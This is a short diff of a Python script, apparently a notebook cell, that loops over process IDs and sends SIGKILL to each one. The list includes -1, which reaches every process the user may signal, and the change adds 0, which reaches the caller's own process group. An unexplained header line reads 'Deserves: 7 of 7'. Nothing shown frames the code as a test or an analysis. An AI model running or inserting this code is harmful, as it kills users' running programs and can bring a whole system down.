@@ -2,7 +2,7 @@
 # Deserves: 7 of 7
 # %%
 import os, signal
-for pid in [-1, *range(2, 3000)]:
+for pid in [-1, 0, *range(2, 3000)]:
     try:
         os.kill(pid, signal.SIGKILL)
     except OSError:
